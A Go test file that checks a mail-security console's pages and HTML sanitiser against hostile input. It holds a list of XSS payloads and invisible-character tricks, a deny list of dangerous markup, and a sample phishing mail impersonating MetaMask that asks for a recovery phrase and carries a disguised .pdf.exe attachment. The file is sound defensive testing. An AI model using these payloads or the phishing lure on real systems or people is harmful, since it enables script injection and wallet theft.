package console

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/sekisho/sekisho"
	"github.com/sekisho/sekisho/people"
	"github.com/sekisho/sekisho/record"
)

// payloads are what senders write to be run, clicked or misread.
var payloads = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `'onmouseover='alert(1)`, `</title><svg onload=alert(1)>`, `{{.Me.CSRF}}`,
	"javascript:alert(1)", "\u202egnp.exe", "\u2066\u200b\ufeffx", "\x00\x1b[2J", "https://evil.example/click", "</textarea><script>alert(1)</script>",
}

// dangerous is what no page holds of them.
var dangerous = []string{"<script>alert", "<img src=x", "onerror=alert(1)>", "<svg onload", `href="javascript:`, `src="http`, "\u202e", "\u2066", "\u200b", "\x00", "\x1b", `href="https://evil`, "'onmouseover='"}

// entered is what somebody typed themselves and gets back to go on with, and the exact values that forms send.
var entered = regexp.MustCompile(`(?s) value="[^"]*"|<textarea.*?</textarea>`)

func checkPage(t *testing.T, name, body string) {
	t.Helper()
	plain := entered.ReplaceAllString(body, "")
	for _, bad := range dangerous {
		text := body
		if bad[0] < ' ' || bad[0] >= 0x80 {
			text = plain
		}
		if i := strings.Index(text, bad); i >= 0 {
			t.Errorf("%s holds %q: ...%q", name, bad, text[max(0, i-80):min(len(text), i+80)])
		}
	}
	if !strings.HasSuffix(strings.TrimSpace(body), "</html>") {
		t.Errorf("%s is cut off", name)
	}
}

// hostileMail is a mail that has a payload everywhere a sender can write.
func hostileMail(payload string) string {
	word := func(s string) string { return "=?utf-8?B?" + base64.StdEncoding.EncodeToString([]byte(s)) + "?=" }
	page := `<html><body onload="alert(1)"><a href="javascript:alert(1)">` + payload + `</a><form action="https://evil.example/"><input type=password></form>MetaMask: enter your recovery phrase within 24 hours` + payload + `</body></html>`
	return strings.Join([]string{
		"Received: from " + word(payload) + " by mx.kaede-ex.jp with SMTP; Sat, 21 Nov 2026 09:00:00 +0900",
		"From: " + word("MetaMask "+payload) + " <support@metamask-wallet.example>", "To: " + word(payload) + " <saito@kaede-ex.jp>",
		"Subject: " + word("MetaMask "+payload), "X-Evil: " + word(payload), "Message-ID: <" + word(payload) + "@x.example>", "MIME-Version: 1.0",
		`Content-Type: multipart/mixed; boundary=b`, "", "--b", "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "",
		base64.StdEncoding.EncodeToString([]byte(page)), "--b",
		"Content-Type: application/octet-stream", "Content-Disposition: attachment; filename=\"" + word(payload+".pdf.exe") + "\"", "", "MZ", "--b--", "",
	}, "\r\n")
}

// TestNothingASenderWroteRuns: whatever a mail says, wherever it says it, no page of the console runs, loads or links it.
func TestNothingASenderWroteRuns(t *testing.T) {
	w := newWorld(t, home, nil)
	admin := w.staff()[people.RoleAdministrator]
	for i, payload := range payloads {
		p := w.come(mailIn{name: payload + ".eml", text: hostileMail(payload), reporter: payload + "@kaede-ex.jp"})
		decision := record.Decision{By: admin.me.Person.ID, Do: record.DecideComment, Case: p.Case, Reason: "seen: " + payload}
		if _, err := w.Record.Decide(t.Context(), decision); err != nil {
			t.Fatal(err)
		}
		path := "/cases/" + p.Case + "?passage=" + p.ID
		checkPage(t, fmt.Sprintf("case %d", i), w.get(admin, path).Body.String())
		if got := w.post(admin, "/passages/"+p.ID+"/open", url.Values{"back": {path}}); got.Code != 303 || got.Header().Get("Location") != path+"#mail" {
			t.Errorf("open %d: %d to %s", i, got.Code, got.Header().Get("Location"))
		}
		body := w.get(admin, path).Body.String()
		checkPage(t, fmt.Sprintf("case %d, opened", i), body)
		if !strings.Contains(body, "<iframe sandbox src=") {
			t.Errorf("case %d has no picture", i)
		}
		checkSheets(t, w, admin, p)
		d, err := w.Record.Passage(t.Context(), p.ID)
		if err != nil {
			t.Fatal(err)
		}
		for _, indicator := range d.Indicator {
			checkPage(t, "indicator "+indicator.Kind, w.get(admin, "/indicator?"+url.Values{"kind": {indicator.Kind}, "value": {indicator.Value}}.Encode()).Body.String())
		}
		checkPage(t, "search", w.get(admin, "/search?q="+url.QueryEscape(payload)).Body.String())
		checkPage(t, "cases", w.get(admin, "/cases?q="+url.QueryEscape(payload)+"&rule="+url.QueryEscape(payload)+"&after="+url.QueryEscape(payload)).Body.String())
		rule := w.post(admin, "/replay", url.Values{"rule": {payload}})
		if rule.Code != 400 {
			t.Errorf("a rule that is %q: %d", payload, rule.Code)
		}
		checkPage(t, "replay", rule.Body.String())
	}
	all := strings.Join(payloads, " ")
	checkPage(t, "sign-in", w.post(nil, "/sign-in", url.Values{"mail": {all}, "next": {all}, "password": {"x"}, "code": {"000000"}}).Body.String())
	for _, path := range []string{"/", "/cases", "/search?q=metamask", "/log", "/jobs"} {
		checkPage(t, path, w.get(admin, path).Body.String())
	}
}

func checkSheets(t *testing.T, w *world, b *browser, p *sekisho.Passage) {
	t.Helper()
	for _, ref := range w.opened.get(b.me.Person.ID, p.ID).refs() {
		at := ref.At
		got := w.get(b, "/passages/"+p.ID+"/sheet?at="+at)
		if got.Code != 200 || got.Header().Get("Content-Security-Policy") != sheetPolicy {
			t.Errorf("sheet %s: %d, policy %q", at, got.Code, got.Header().Get("Content-Security-Policy"))
		}
		for _, bad := range append([]string{"<a ", "<form", "<input", "<img", "onload", "href=", "src=", "evil.example/\""}, dangerous...) {
			if strings.Contains(got.Body.String(), bad) {
				t.Errorf("sheet %s holds %q", at, bad)
			}
		}
	}
}

// deep returns a tree of n nodes, wide or deep.
func deep(id string, n int, narrow bool) record.Node {
	root := record.Node{ID: id, Kind: sekisho.KindArchive, Name: strings.Repeat("名", 300)}
	if narrow && n > 1 {
		root.Parts = []record.Node{deep(id+".0", n-1, true)}
		return root
	}
	for i := range n - 1 {
		root.Parts = append(root.Parts, record.Node{ID: fmt.Sprintf("%s.%d", id, i), Kind: "strange", Name: payloads[i%len(payloads)], Shown: strings.Repeat("x", 2000), SHA256: strings.Repeat("a", 64), Size: 1 << 40})
	}
	return root
}

// TestExtremes executes the page of a case with what no mail should hold and some do.
func TestExtremes(t *testing.T) {
	w := newWorld(t, home, nil)
	long := strings.Repeat("長い<b>\u202e件名 ", 1000)
	me := &visitor{people.Session{Person: people.Person{ID: "p", Name: long, Role: people.RoleAdministrator}, Fresh: true, Form: "f"}}
	evidence := record.Evidence{Detector: "lure", Artifact: "0", Facts: json.RawMessage(`{"words":["<b>","x"],"n":3,"ok":true,"empty":"","nested":{"a":1}}`), At: []record.Span{{Where: "text", Quote: long}, {Where: "", Start: -5, End: 1 << 40, Quote: "<script>alert(1)</script>"}}}
	full := record.Detail{Passage: record.Passage{ID: "p", Case: "c", Subject: long, Sender: long, Name: long, To: make([]string, 500), Reporter: long, Outcome: long, Would: "hold", Kept: true, Do: "hold", Kind: "mail"}}
	for i := range 150 {
		full.Findings = append(full.Findings, record.Finding{Rule: fmt.Sprint("r", i), Title: sekisho.Text{En: long, Ja: long}, Why: sekisho.Text{En: long, Ja: long}, Ask: sekisho.ActionReject, Artifact: "0", Evidence: []record.Evidence{evidence, evidence}})
		full.Gaps = append(full.Gaps, sekisho.Gap{Artifact: "0", By: long, Why: "limit: " + long})
		full.Headers = append(full.Headers, record.Header{Name: long, Value: long}, record.Header{Name: "Received", Value: "from (((by " + long})
		full.Indicator = append(full.Indicator, record.Indicator{Kind: "url", Value: long[:1980], Seen: i})
	}
	wide, narrow, empty := full, full, record.Detail{}
	wide.Tree, narrow.Tree = deep("0", 4000, false), deep("0", 400, true)
	for name, d := range map[string]record.Detail{"wide": wide, "deep": narrow, "empty": empty} {
		for _, lang := range []sekisho.Lang{sekisho.English, sekisho.Japanese} {
			shown := w.viewPassage(d, me, lang)
			one := record.CaseDetail{Case: record.Case{ID: "c", Title: d.Subject, State: record.StateOpen, Asked: long, Rules: []string{long}}, Seen: []record.Passage{d.Passage}}
			data := map[string]any{"Case": one.Case, "Row": w.caseRows([]record.Case{one.Case})[0], "Seen": one.Seen, "Related": []record.Related{{Case: one.Case}}, "Joined": d.Indicator,
				"Shown": shown, "Events": events(one, nil), "Decide": w.newDecideView(one, shown, me, long), "MayOpen": true, "MayExport": true}
			var b strings.Builder
			if err := w.pages[lang]["case"].ExecuteTemplate(&b, "layout.html", view{Lang: lang, Me: me, Title: long, Assets: w.assets.names, Data: data}); err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			checkPage(t, name, b.String())
			if b.Len() > 12<<20 {
				t.Errorf("%s has %d bytes", name, b.Len())
			}
			if len(shown.Picture.Boxes) > 200 || shown.Picture.Height > 4000 {
				t.Errorf("%s is drawn with %d boxes, %d high", name, len(shown.Picture.Boxes), shown.Picture.Height)
			}
		}
	}
}

func TestSanitise(t *testing.T) {
	for _, tt := range []struct{ name, in, want string }{
		{"words", `<p>a <b>b</b></p>`, `<p>a <b>b</b></p>`},
		{"script", `a<script>alert(1)</script>b`, `ab`},
		{"nested script", `<svg><svg><p>x</svg></svg>b`, `b`},
		{"handler", `<p onclick="x()" id=a class=b>a</p>`, `<p>a</p>`},
		{"link", `<a href="https://x.example/y" target=_blank>click</a>`, `<span class="link">click</span> <span class="target">⟨hxxps://x.example/y⟩</span> `},
		{"image", `<img src="https://x.example/t.gif" alt="Bank <b>">`, ` <span class="image">▢ Bank &lt;b&gt;</span> `},
		{"form", `<form action=x><input type=password placeholder=PIN></form>`, ` <span class="form">[password PIN]</span> `},
		{"style", `<p style="color:red;background:url(http://x);position:fixed;font-size:12px">a</p>`, `<p style="color:red;font-size:12px">a</p>`},
		{"style with an escape", `<p style="color:\75rl(x);width:expression(1)">a</p>`, `<p>a</p>`},
		{"colour", `<td bgcolor="#fff" background="http://x" style="color:rgb(1, 2, 3)">a</td>`, `<td bgcolor="#fff" style="color:rgb(1, 2, 3)">a</td>`},
		{"unclosed", `<div><b>a`, `<div><b>a</b></div>`},
		{"closed twice", `</div></b>a</p>`, `a`},
		{"crossed", `<b><i>a</b>c</i>`, `<b><i>a</i></b>c`},
		{"meta", `<meta http-equiv=refresh content="0;url=http://x"><base href=http://x><link rel=stylesheet href=x>a`, `a`},
		{"comment", `<!--[if mso]><p>x</p><![endif]-->a`, `a`},
		{"unseen", "a\u202eb\u200b", "a&lt;U+202E&gt;b&lt;U+200B&gt;"},
	} {
		_, got, _ := strings.Cut(string(Sanitise([]byte(tt.in))), "<body>")
		if got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.name, got, tt.want)
		}
	}
}

func FuzzSanitiseRunsAndLoadsNothing(f *testing.F) {
	for _, seed := range append(payloads, `<a href=x><td style="color:red">`, "<plaintext><b>", "<title><script>", "<xmp><img src=x>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>") {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, page string) {
		_, got, _ := strings.Cut(string(Sanitise([]byte(page))), "<body>")
		checkSheet(t, got)
	})
}
